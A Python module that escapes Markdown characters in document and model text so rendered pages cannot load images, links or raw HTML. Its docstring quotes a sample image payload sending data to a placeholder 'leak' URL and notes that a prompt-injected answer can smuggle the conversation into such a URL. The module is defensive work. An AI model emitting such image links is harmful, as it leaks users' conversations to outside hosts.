"""Text from documents and from the model, made inert before it goes into rendered Markdown.

A passage or an answer may contain `![x](http://host/leak?data=...)`, `<img src=...>`, a reference
image, a link or a bare URL. Rendered, an image makes every visitor's browser fetch a URL of the
author's choosing (and a prompt-injected answer can put the conversation into that URL). So the
characters that open anything that fetches or links get a backslash, which CommonMark defines
as "this character, literally": `[` `]` (images, links, references, footnotes), `<` (raw HTML,
autolinks), `&` (entities), `` ` `` (code spans, where escapes would stop working), `@` (e-mail
autolinks), `\\` itself, and the `://` and `www.` of bare URLs. Emphasis, lists and headings are
left alone: they only format. The result reads exactly like the original. Newlines are kept.
The page's own Markdown (bold labels, block quotes) is written around the escaped text.
"""

from __future__ import annotations

import re

_ESCAPE = str.maketrans({ch: "\\" + ch for ch in "\\`[]<&@"})
_BARE_URL = re.compile(r"://|(?<![\w.])www\.", re.IGNORECASE)


def inert(text: str) -> str:
    """`text` as literal Markdown: shown as written, never as an image, link or HTML."""
    escaped = str(text).translate(_ESCAPE)
    return _BARE_URL.sub(lambda m: "\\://" if m.group(0) == "://" else m.group(0)[:-1] + "\\.", escaped)


def inert_line(text: str) -> str:
    """One line of literal Markdown (table cells, headings): whitespace runs become one space, "|" escaped."""
    return inert(" ".join(str(text).split())).replace("|", "\\|")
